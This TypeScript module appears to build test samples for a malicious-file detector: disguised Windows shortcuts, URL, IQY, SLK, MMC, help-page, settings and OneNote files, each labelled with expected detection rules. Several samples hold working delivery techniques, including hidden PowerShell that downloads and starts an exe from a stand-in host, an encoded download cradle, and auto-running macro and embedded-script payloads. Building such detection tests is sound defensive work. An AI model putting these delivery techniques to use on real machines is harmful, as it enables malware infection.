// Shortcuts and notebooks that start what they carry or fetch.
import { writeLnk } from '../../write-lnk.ts'
import { writeOneNote } from '../../write-onenote.ts'
import type { Suspect } from '../suspect.ts'
import { bad, cmd, file, program, wide } from './document.ts'

export const shortcuts: readonly Suspect[] = [
  file(
    'invoice.pdf.lnk',
    'malicious',
    ['lnk_starts_interpreter', 'lnk_looks_like_document'],
    writeLnk({
      target: cmd,
      arguments: `/c powershell -w hidden -c "iwr ${bad}/a.exe -OutFile %TEMP%\\a.exe; start %TEMP%\\a.exe"`,
      icon: 'C:\\Program Files\\Adobe\\Acrobat\\AcroRd32.exe',
    }),
  ),
  file(
    'padded.lnk',
    'malicious',
    ['lnk_hides_arguments'],
    writeLnk({ target: cmd, arguments: `${' '.repeat(300)}/c calc` }),
  ),
  file(
    'mshta.lnk',
    'suspicious',
    ['lnk_starts_interpreter', 'script_uses_system_tool_to_fetch'],
    writeLnk({ target: 'C:\\Windows\\System32\\mshta.exe', arguments: 'http://files.test/a.hta' }),
  ),
  file(
    'encoded.lnk',
    'malicious',
    ['lnk_starts_interpreter'],
    writeLnk({
      target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      arguments: `-nop -w hidden -enc ${wide(`IEX (New-Object Net.WebClient).DownloadString('${bad}/a')`)}`,
      showCommand: 7,
    }),
  ),
  file(
    'appended.lnk',
    'suspicious',
    ['lnk_carries_payload'],
    writeLnk({
      target: cmd,
      arguments: '/c findstr /b x "%~f0"',
      appended: Buffer.alloc(2000, 'function x(){ return 1 }\n'),
    }),
  ),
  file(
    'network.lnk',
    'suspicious',
    ['lnk_points_to_network'],
    writeLnk({ target: '\\\\203.0.113.7\\share\\a.exe', icon: '\\\\203.0.113.7\\i.ico' }),
  ),
  file(
    'rundll.lnk',
    'suspicious',
    ['lnk_starts_interpreter'],
    writeLnk({ target: 'C:\\Windows\\System32\\rundll32.exe', arguments: '%TEMP%\\a.dll,Start' }),
  ),
  file(
    'share.url',
    'suspicious',
    ['pointer_leads_to_share'],
    '[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.exe\r\nIconFile=\\\\203.0.113.7\\i.ico\r\n',
  ),
  file(
    'webdav.url',
    'suspicious',
    ['pointer_leads_to_share'],
    '[InternetShortcut]\r\nURL=file:\\\\files.test@80\\share\\a.vbs\r\nIconIndex=1\r\n',
  ),
  file('query.iqy', 'suspicious', ['pointer_queries_web'], `WEB\r\n1\r\n${bad}/x.dat\r\n`),
  file(
    'macro.slk',
    'malicious',
    ['pointer_macro_runs_by_itself'],
    'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC("cmd /c calc")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n',
  ),
  file(
    'folder.library-ms',
    'suspicious',
    ['search_file_leads_outside'],
    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\203.0.113.7\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
  ),
  file(
    'remote.rdp',
    'suspicious',
    ['pointer_remote_desktop_shares_disks'],
    'full address:s:desk.files.test\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nremoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||Check\r\n',
  ),
  file(
    'console.msc',
    'malicious',
    ['console_file_runs_script'],
    '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><Strings><String ID="39" Refs="1">res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot().Name)</String></Strings></StringTables></MMC_ConsoleFile>',
  ),
  file(
    'task.msc',
    'suspicious',
    ['pointer_runs_program'],
    '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><ConsoleTaskpads><ConsoleTaskpad><Tasks><Task Type="CommandLine" Command="powershell.exe"><CommandLine Directory="" WindowState="Minimized" Params="-w hidden -c calc"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads></MMC_ConsoleFile>',
  ),
  file(
    'topic.htm',
    'malicious',
    ['help_page_starts_program'],
    '<html><body><OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00AA003B7A11" width=1 height=1><PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut"><PARAM name="Item1" value=",cmd.exe,/c calc.exe"><PARAM name="Item2" value="273,1,1"></OBJECT><SCRIPT>x.Click();</SCRIPT></body></html>',
  ),
  file(
    'settings.SettingContent-ms',
    'suspicious',
    ['pointer_runs_program'],
    '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
  ),
  file(
    'script.one',
    'malicious',
    ['onenote_embeds_program'],
    writeOneNote(
      [
        {
          name: 'open.hta',
          bytes: Buffer.from(
            '<html><script language="vbscript">CreateObject("WScript.Shell").Run "cmd /c calc",0</script></html>',
          ),
        },
      ],
      'Double click to view the document',
    ),
  ),
  file('program.one', 'malicious', ['onenote_embeds_program'], writeOneNote([{ name: 'setup.exe', bytes: program }])),
  file(
    'batch.one',
    'malicious',
    ['onenote_embeds_program'],
    writeOneNote([{ name: 'a.cmd', bytes: Buffer.from('@echo off\r\nstart /min powershell -w hidden -c calc\r\n') }]),
  ),
]
